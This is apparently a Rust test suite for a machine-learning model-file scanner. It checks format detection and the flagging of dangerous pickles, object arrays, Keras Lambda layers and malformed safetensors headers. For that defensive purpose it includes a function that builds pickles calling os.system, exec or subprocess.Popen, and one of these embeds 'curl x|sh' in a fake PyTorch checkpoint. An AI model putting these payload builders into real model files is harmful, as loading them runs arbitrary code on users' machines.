//! Format detection and pickle scanning on files built here, byte by byte
//! (no real malicious file is ever committed).

use crate::common::*;
use serde_json::Value;
use std::fs;
use std::io::Write;
use std::path::Path;

fn short_str(s: &str) -> Vec<u8> {
    let mut b = vec![0x8c, s.len() as u8];
    b.extend_from_slice(s.as_bytes());
    b
}

/// A pickle calling `module.name(arg)` in the given protocol.
fn call_pickle(protocol: u8, module: &str, name: &str, arg: &str) -> Vec<u8> {
    let mut p = Vec::new();
    match protocol {
        0 => p.extend_from_slice(format!("c{module}\n{name}\n(S'{arg}'\ntR.").as_bytes()),
        1 => {
            p.extend_from_slice(format!("c{module}\n{name}\n(X").as_bytes());
            p.extend_from_slice(&(arg.len() as u32).to_le_bytes());
            p.extend_from_slice(arg.as_bytes());
            p.extend_from_slice(b"tR.");
        }
        2 | 3 => {
            p.extend_from_slice(&[0x80, protocol]);
            p.extend_from_slice(format!("c{module}\n{name}\n").as_bytes());
            p.push(b'X');
            p.extend_from_slice(&(arg.len() as u32).to_le_bytes());
            p.extend_from_slice(arg.as_bytes());
            p.extend_from_slice(&[0x85, b'R', b'.']);
        }
        _ => {
            let mut body = short_str(module);
            body.push(0x94);
            body.extend(short_str(name));
            body.push(0x94);
            body.push(0x93);
            body.push(0x94);
            body.extend(short_str(arg));
            body.extend_from_slice(&[0x85, b'R', b'.']);
            p.extend_from_slice(&[0x80, protocol, 0x95]);
            p.extend_from_slice(&(body.len() as u64).to_le_bytes());
            p.extend(body);
        }
    }
    p
}

fn inspect(path: &Path) -> (i32, Value) {
    let (code, out, err) = run(modelseal().args(["--format", "json", "inspect"]).arg(path));
    assert!(code == 0 || code == 1, "{err}");
    (
        code,
        serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}")),
    )
}

fn messages(report: &Value) -> Vec<String> {
    report["files"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            f["findings"]
                .as_array()
                .unwrap()
                .iter()
                .map(|x| x["message"].as_str().unwrap().to_string())
        })
        .collect()
}

#[test]
fn malicious_pickles_of_every_protocol_are_flagged() {
    let tmp = tempfile::tempdir().unwrap();
    for protocol in 0..=5u8 {
        for (module, name) in [
            ("posix", "system"),
            ("builtins", "exec"),
            ("os", "system"),
            ("subprocess", "Popen"),
        ] {
            let path = tmp.path().join(format!("p{protocol}.bin"));
            fs::write(&path, call_pickle(protocol, module, name, "id")).unwrap();
            let (code, report) = inspect(&path);
            assert_eq!(code, 1, "protocol {protocol} {module}.{name}: {report}");
            assert_eq!(report["files"][0]["format"], "pickle");
            let m = messages(&report);
            assert!(
                m.iter()
                    .any(|x| x.contains(&format!("calls {module}.{name} (dangerous)"))),
                "{protocol}: {m:?}"
            );
        }
    }
}

#[test]
fn import_module_then_call_and_nested_reduce_are_flagged() {
    // getattr(importlib.import_module('os'), 'system')('id'), protocol 4.
    let mut body = Vec::new();
    body.extend(short_str("builtins"));
    body.extend(short_str("getattr"));
    body.push(0x93);
    body.extend(short_str("importlib"));
    body.extend(short_str("import_module"));
    body.push(0x93);
    body.extend(short_str("os"));
    body.extend_from_slice(&[0x85, b'R']); // import_module('os')
    body.extend(short_str("system"));
    body.extend_from_slice(&[0x86, b'R']); // getattr(os, 'system')
    body.extend(short_str("id"));
    body.extend_from_slice(&[0x85, b'R', b'.']); // system('id')
    let mut p = vec![0x80, 4];
    p.extend(body);
    let tmp = tempfile::tempdir().unwrap();
    let path = tmp.path().join("nested.pkl");
    fs::write(&path, p).unwrap();
    let (code, report) = inspect(&path);
    assert_eq!(code, 1);
    let m = messages(&report);
    assert!(
        m.iter()
            .any(|x| x.contains("calls importlib.import_module (dangerous)")),
        "{m:?}"
    );
    assert!(
        m.iter()
            .any(|x| x.contains("calls builtins.getattr (dangerous)")),
        "{m:?}"
    );
}

/// A state dict as torch writes it: an OrderedDict of rebuilt tensors.
fn benign_state_dict() -> Vec<u8> {
    let mut p = vec![0x80, 2];
    p.extend_from_slice(b"ccollections\nOrderedDict\nq\x00)Rq\x01");
    p.extend_from_slice(b"X\x06\x00\x00\x00weight");
    p.extend_from_slice(b"ctorch._utils\n_rebuild_tensor_v2\nq\x02(");
    p.extend_from_slice(b"(X\x07\x00\x00\x00storageq\x03ctorch\nFloatStorage\nq\x04X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ");
    p.extend_from_slice(b"K\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)Rtq\x05Rq\x06");
    p.extend_from_slice(b"s.");
    p
}

#[test]
fn a_benign_state_dict_pickle_has_only_safe_globals() {
    let tmp = tempfile::tempdir().unwrap();
    let path = tmp.path().join("state.pkl");
    fs::write(&path, benign_state_dict()).unwrap();
    let (code, report) = inspect(&path);
    assert_eq!(code, 0, "{report}");
    let globals: Vec<&str> = report["files"][0]["details"]["globals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        globals,
        [
            "collections.OrderedDict",
            "torch._utils._rebuild_tensor_v2",
            "torch.FloatStorage"
        ]
    );
}

fn zip_file(path: &Path, members: &[(&str, &[u8])]) {
    let file = fs::File::create(path).unwrap();
    let mut zip = zip::ZipWriter::new(file);
    let options: zip::write::SimpleFileOptions =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for (name, bytes) in members {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap();
}

#[test]
fn pytorch_zip_checkpoints_are_scanned_member_by_member() {
    let tmp = tempfile::tempdir().unwrap();
    let evil = tmp.path().join("pytorch_model.bin");
    let payload = call_pickle(2, "posix", "system", "curl x|sh");
    zip_file(
        &evil,
        &[
            ("archive/data.pkl", &payload),
            ("archive/version", b"3\n"),
            ("archive/data/0", &[0u8; 16]),
        ],
    );
    let (code, report) = inspect(&evil);
    assert_eq!(code, 1);
    assert_eq!(report["files"][0]["format"], "pytorch-zip");
    assert!(
        messages(&report)
            .iter()
            .any(|m| m.contains("archive/data.pkl: calls posix.system")),
        "{report}"
    );
    let good = tmp.path().join("good.pt");
    zip_file(
        &good,
        &[
            ("archive/data.pkl", &benign_state_dict()),
            ("archive/version", b"3\n"),
        ],
    );
    let (code, report) = inspect(&good);
    assert_eq!(code, 0, "{report}");
    assert_eq!(report["files"][0]["format"], "pytorch-zip");
}

#[test]
fn npz_object_arrays_and_keras_lambdas_are_flagged() {
    let npy = |descr: &str| {
        let header = format!("{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}\n");
        let mut b = b"\x93NUMPY\x01\x00".to_vec();
        b.extend_from_slice(&(header.len() as u16).to_le_bytes());
        b.extend_from_slice(header.as_bytes());
        b.extend_from_slice(&[0u8; 8]);
        b
    };
    let tmp = tempfile::tempdir().unwrap();
    let npz = tmp.path().join("arrays.npz");
    zip_file(&npz, &[("a.npy", &npy("<f8")), ("b.npy", &npy("|O"))]);
    let (code, report) = inspect(&npz);
    assert_eq!(code, 1);
    assert_eq!(report["files"][0]["format"], "numpy-zip");
    assert!(
        messages(&report)
            .iter()
            .any(|m| m.contains("b.npy: object array")),
        "{report}"
    );
    let plain = tmp.path().join("a.npy");
    fs::write(&plain, npy("<f4")).unwrap();
    let (code, report) = inspect(&plain);
    assert_eq!(code, 0);
    assert_eq!(report["files"][0]["format"], "numpy");
    let keras = tmp.path().join("model.keras");
    let config = br#"{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}"#;
    zip_file(
        &keras,
        &[
            ("config.json", config),
            ("metadata.json", b"{}"),
            ("model.weights.h5", b"\x89HDF\r\n\x1a\n"),
        ],
    );
    let (code, report) = inspect(&keras);
    assert_eq!(code, 1);
    assert_eq!(report["files"][0]["format"], "keras");
}

#[test]
fn formats_are_recognised_by_content_not_extension() {
    let tmp = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: &[u8]| {
        let p = tmp.path().join(name);
        fs::write(&p, bytes).unwrap();
        p
    };
    let mut gguf = b"GGUF".to_vec();
    gguf.extend_from_slice(&3u32.to_le_bytes());
    gguf.extend_from_slice(&[0u8; 16]);
    let cases = [
        (write("weights.pt", &gguf), "gguf"),
        (
            write(
                "model.safetensors.txt",
                &fs::read(fixture("tiny-model/model.safetensors")).unwrap(),
            ),
            "safetensors",
        ),
        (
            write("model.onnx.bak", &[0x08, 0x08, 0x3a, 0x00, 0x42, 0x00]),
            "onnx",
        ),
        (write("model.bin", b"\x89HDF\r\n\x1a\n\0\0\0\0"), "hdf5"),
        (write("notes.pkl", b"just some notes\n"), "text"),
        (write("data.bin", b"{\"a\": [1, 2]}"), "json"),
        (
            write(
                "blob.safetensors",
                &[0xde, 0xad, 0xbe, 0xef, 0, 0, 0xff, 0x01],
            ),
            "unknown",
        ),
    ];
    for (path, want) in cases {
        let (_, report) = inspect(&path);
        assert_eq!(report["files"][0]["format"], want, "{}", path.display());
    }
}

#[test]
fn truncated_and_garbage_pickles_are_findings_not_crashes() {
    let tmp = tempfile::tempdir().unwrap();
    let full = call_pickle(4, "posix", "system", "id");
    for cut in [3, 12, full.len() - 1] {
        let path = tmp.path().join(format!("cut{cut}.pkl"));
        fs::write(&path, &full[..cut]).unwrap();
        let (code, report) = inspect(&path);
        assert_eq!(code, 1, "cut {cut}: {report}");
        assert!(
            report["files"][0]["findings"]
                .as_array()
                .unwrap()
                .iter()
                .any(|f| f["severity"] == "invalid"),
            "{report}"
        );
    }
    let path = tmp.path().join("garbage.pkl");
    let mut garbage = vec![0x80, 2];
    garbage.extend((0..4000u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8));
    fs::write(&path, garbage).unwrap();
    let (code, _) = inspect(&path);
    assert_eq!(code, 1);
}

#[test]
fn lying_safetensors_headers_are_each_rejected_with_a_reason() {
    let tmp = tempfile::tempdir().unwrap();
    let st = |header: &[u8], data: usize, declared: Option<u64>| {
        let mut b = declared
            .unwrap_or(header.len() as u64)
            .to_le_bytes()
            .to_vec();
        b.extend_from_slice(header);
        b.extend(std::iter::repeat_n(0u8, data));
        b
    };
    let one = br#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}"#;
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("past", st(one, 8, Some(4000)), "past the end"),
        ("cap", st(one, 8, Some(200_000_000)), "limit"),
        ("overlap", st(br#"{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}"#, 12, None), "invalid header"),
        ("gap", st(br#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}"#, 8, None), "invalid header"),
        ("length", st(one, 16, None), "file holds 16"),
        ("utf8", st(b"{\"\xff\":1}", 0, None), "UTF-8"),
        ("dup", st(br#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}"#, 8, None), "duplicate JSON key"),
    ];
    for (name, bytes, want) in cases {
        let path = tmp.path().join(format!("{name}.safetensors"));
        fs::write(&path, bytes).unwrap();
        let (code, report) = inspect(&path);
        assert_eq!(code, 1, "{name}: {report}");
        let m = messages(&report);
        assert!(m.iter().any(|x| x.contains(want)), "{name}: {m:?}");
    }
    let good = tmp.path().join("good.safetensors");
    fs::write(&good, st(one, 8, None)).unwrap();
    assert_eq!(inspect(&good).0, 0);
}
